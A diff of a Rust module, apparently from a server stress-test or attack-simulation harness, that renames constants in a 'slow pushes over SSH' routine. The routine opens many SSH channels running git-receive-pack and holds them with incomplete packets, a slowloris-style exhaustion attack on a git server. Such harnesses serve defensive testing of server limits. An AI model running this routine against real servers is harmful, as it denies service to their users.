@@ -15,9 +15,9 @@ pub(super) const NAME: &str = "slow pushes over SSH";
 
 /// The number of channels, and of channels per connection.
 const CHANNELS: usize = 36;
-const OF_ONE_CONNECTION: usize = 9;
+const CHANNELS_PER_CONNECTION: usize = 9;
 /// The most channels that are opened per second, because each is a process on this side.
-const OPENED: usize = 4;
+const OPENED_PER_SECOND: usize = 4;
 
 struct SlowPush {
     child: Child,
@@ -26,7 +26,7 @@ struct SlowPush {
 
 impl SlowPush {
     fn start(key: &Identity, attacker: &Attacker, target: &Target, number: usize) -> Option<Self> {
-        let socket = key.path().join(format!("connection-{}", number / OF_ONE_CONNECTION));
+        let socket = key.path().join(format!("connection-{}", number / CHANNELS_PER_CONNECTION));
         let (socket, from) = (socket.display().to_string(), attacker.from.to_string());
         let share = ["-b", &from, "-o", "ControlMaster=auto", "-S", &socket];
         let mut command = key.ssh(target.ssh, &share, &["git-receive-pack 'eve/trap.git'"]);
@@ -34,9 +34,9 @@ impl SlowPush {
         let mut child = command.spawn().ok()?;
         let mut stdin = child.stdin.take()?;
         let line = format!("{} {} refs/heads/x{number}\0report-status", "0".repeat(40), target.tip);
-        let said = if number % 4 == 3 { "0".to_owned() } else { packet(&line) + "0000PACK" };
+        let start = if number % 4 == 3 { "0".to_owned() } else { packet(&line) + "0000PACK" };
         // The server refuses channels beyond the share of the user after a while.
-        let _ = stdin.write_all(said.as_bytes()).and_then(|()| stdin.flush());
+        let _ = stdin.write_all(start.as_bytes()).and_then(|()| stdin.flush());
         Some(Self { child, stdin })
     }
 
@@ -70,7 +70,7 @@ pub(super) fn slow_pushes(attacker: &Attacker, target: &Target, over: &AtomicBoo
                 *push = None;
                 tally.count(attacker, NAME, "ended");
             }
-            if push.is_none() && opened < OPENED {
+            if push.is_none() && opened < OPENED_PER_SECOND {
                 *push = SlowPush::start(&key, attacker, target, number);
                 tally.count(attacker, NAME, "opened");
                 opened += 1;
